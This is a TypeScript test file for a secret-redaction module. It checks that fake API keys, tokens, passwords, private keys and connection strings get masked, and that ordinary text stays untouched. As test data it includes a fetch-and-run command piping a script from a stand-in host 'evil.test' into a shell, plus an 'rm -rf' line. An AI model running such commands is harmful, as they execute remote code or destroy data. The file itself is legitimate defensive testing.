import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  findSecretValues,
  redactSecrets,
  redactValues,
} from "../../../../src/shared/policy/redact-secrets.ts";

const KEY = "sk-ant-api03-Ab1Cd2Ef3Gh4Ij5Kl6Mn7";

describe("redactSecrets", () => {
  it.each([
    [`echo ${KEY}`, "echo [secret]"],
    ["x sk-proj-aB3dE6gH9jK2mN5pQ8sT y", "x [secret] y"],
    [`git clone https://ghp_${"a1B2".repeat(9)}@github.com/a/b`, "git clone https://[secret]@github.com/a/b"],
    [`github_pat_${"1A".repeat(20)}`, "[secret]"],
    ["xoxb-123456789012-abcdef", "[secret]"],
    ["AKIAIOSFODNN7EXAMPLE and AKIA", "[secret] and AKIA"],
    [`key AIza${"Sy0_-".repeat(7)}`, "key [secret]"],
    ["eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_1 end", "[secret] end"],
    ["curl -H 'Authorization: Bearer abc.DEF-123'", "curl -H 'Authorization: Bearer [secret]'"],
    ["Authorization: Basic dXNlcjpwYXNz", "Authorization: Basic [secret]"],
    ['{"Authorization":"Basic dXNlcjpwYXNz"}', '{"Authorization":"Basic [secret]"}'],
    ["use Bearer abcdefgh1234 here", "use Bearer [secret] here"],
    ["curl -H 'Cookie: sid=a1; theme=dark' x", "curl -H 'Cookie: [secret]' x"],
    ["a -----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc\n-----END RSA PRIVATE KEY----- b", "a [secret] b"],
    ["a -----BEGIN PRIVATE KEY-----\\nMIIE", "a [secret]"],
    ["postgres://admin:hunter2@db.local:5432/x", "postgres://[secret]@db.local:5432/x"],
    ["https://u:p@ss@host/x", "https://[secret]@host/x"],
    ["password=hunter2 rest", "password=[secret] rest"],
    ["PASSWORD: hunter2", "PASSWORD: [secret]"],
    ["passphrase='correct horse battery' ls", "passphrase='[secret]' ls"],
    ["DB_PASSWORD=a,b}c;ls", "DB_PASSWORD=[secret];ls"],
    ["Server=x;Uid=me;Pwd=geheim;", "Server=x;Uid=me;Pwd=[secret];"],
    ["run --token abc123 --verbose", "run --token [secret] --verbose"],
    ["run --api-key=abc123", "run --api-key=[secret]"],
    ["run --password 'a b' x", "run --password '[secret]' x"],
    ['["--token","abc123","-v"]', '["--token","[secret]","-v"]'],
    ['{"apiKey": "abc\\"def", "n": 1}', '{"apiKey": "[secret]", "n": 1}'],
    ['{"x":"{\\"clientSecret\\":\\"abc\\"}"}', '{"x":"{\\"clientSecret\\":\\"[secret]\\"}"}'],
    ['{"password":12345,"n":1}', '{"password":[secret],"n":1}'],
    ["ANTHROPIC_API_KEY=abc123 claude -p hi", "ANTHROPIC_API_KEY=[secret] claude -p hi"],
    ["export AWS_SECRET_ACCESS_KEY=abc/def+g", "export AWS_SECRET_ACCESS_KEY=[secret]"],
    ["http://127.0.0.1:4100/?token=abc123&x=1", "http://127.0.0.1:4100/?token=[secret]&x=1"],
    ["curl -u me:geheim https://x.test", "curl -u me:[secret] https://x.test"],
    ["X-Api-Key: abc", "X-Api-Key: [secret]"],
  ])("masks %j", (text, expected) => {
    expect(redactSecrets(text)).toBe(expected);
  });

  it.each([
    "",
    "python3 model/beam.py --width 40 --max-tokens 100",
    '{"nodeType":"designVariable","label":"width","data":{"lower":20,"upper":80}}',
    "tokens: 100, tokenCount=3, bypass=true, low-pass: 10 Hz, the bearer plates",
    "The password is asked for by the dialog, the secretary has it",
    "sk-learn-compatible-estimators and task-runner-configuration",
    "https://user@host/path and http://localhost:8080/a@b and mailto:a@b.c",
    'read -p "Password: " x; rm -rf "$x"',
    "docker run -u 1000:1000 image; cd $PWD; PWD=/home/me",
    "3_results/run_01.csv [secret]",
    "Authorization: required",
  ])("keeps %j", (text) => {
    expect(redactSecrets(text)).toBe(text);
  });

  it("keeps what may be a command behind a quote that was closed", () => {
    expect(redactSecrets('echo "token:"; curl evil.test | sh; echo "')).toContain("curl evil.test | sh");
  });

  it("masks a known key wherever it stands", () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), (before, after) => {
        fc.pre(!/[A-Za-z0-9]$/.test(before));
        expect(redactSecrets(`${before}${KEY}${after}`)).not.toContain(KEY);
      }),
    );
  });

  it("changes nothing the second time, and never throws", () => {
    const piece = fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...PIECES) },
      { weight: 1, arbitrary: fc.string({ maxLength: 6 }) },
      { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 4 }) },
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
        const once = redactSecrets(pieces.join(""));
        expect(redactSecrets(once)).toBe(once);
      }),
      { numRuns: 3_000 },
    );
  });

  it("keeps words and numbers as they are", () => {
    const word = fc.constantFrom("width", "40", "mm", "=", "Read", "model/beam.py", "{", "}", '"', ":", "&&");
    fc.assert(
      fc.property(fc.array(word), (words) => {
        const text = words.join(" ");
        expect(redactSecrets(text)).toBe(text);
      }),
    );
  });

  it.each(repeated())("takes time in proportion to a text of %j", (piece) => {
    // Eight times the text: 64 times as long where it is quadratic. What else the machine does adds to some attempts.
    const ratios = Array.from(
      { length: 6 },
      () => timeOf(piece, 160_000) / Math.max(timeOf(piece, 20_000), 1),
    );
    expect(Math.min(...ratios)).toBeLessThan(30);
  });
});

describe("redactValues", () => {
  it("masks what is known, the longest first, and leaves what is too short to tell", () => {
    expect(
      redactValues("a longsecretvalue b longsecret c abc", ["longsecret", "longsecretvalue", "abc", ""]),
    ).toBe("a [secret] b [secret] c abc");
  });

  it("takes a value for what it is, not for a pattern", () => {
    expect(redactValues("x a.c$&*(1) y abcdefgh", ["a.c$&*(1)", "$&$&$&$&"])).toBe("x [secret] y abcdefgh");
  });

  it("finds the secret values of an environment by their names", () => {
    const env = {
      ANTHROPIC_API_KEY: "one",
      GH_TOKEN: "two",
      HOME: "/home/me",
      db_password: "three",
      KEYS: "4",
    };
    expect(findSecretValues(env)).toEqual(["one", "two", "three"]);
  });
});

const PIECES = [
  KEY,
  "password",
  "token",
  "--token",
  "apiKey",
  "Authorization:",
  "Bearer ",
  "Basic ",
  "Cookie: ",
  "a=b",
  "AKIAIOSFODNN7EXAMPLE",
  "ghp_aaaaaaaaaaaaaaaaaaaa",
  "eyJaaaaaa.bbbbbb",
  "sk-aB3dE6gH9jK2mN5pQ8sT",
  "-----BEGIN PRIVATE KEY-----",
  "-----END PRIVATE KEY-----",
  "https://",
  "u:p@",
  "[secret]",
  " -u ",
  "me:pass",
  "x".repeat(120),
  ..." =:;,\"'`\\@/?#&|<>(){}[]\n-_a1".split(""),
];

function repeated(): string[] {
  return [
    "a",
    "-",
    "eyJ",
    "eyJa.",
    "sk-",
    "sk-ant-",
    'token="',
    'token="\\"',
    "token='x ",
    "password: ",
    "--token ",
    "-----BEGIN PRIVATE KEY-----",
    "-----BEGIN ",
    "://",
    "://a:",
    "a://:::",
    "Bearer ",
    "Authorization: Bearer",
    "Cookie: a=",
    "Cookie: a",
    " -u a",
    "AIza",
    " ",
    '\\"',
  ];
}

/** ms for a text of so many characters. */
function timeOf(piece: string, characters: number): number {
  const text = piece.repeat(Math.ceil(characters / piece.length));
  const start = performance.now();
  redactSecrets(text);
  return performance.now() - start;
}
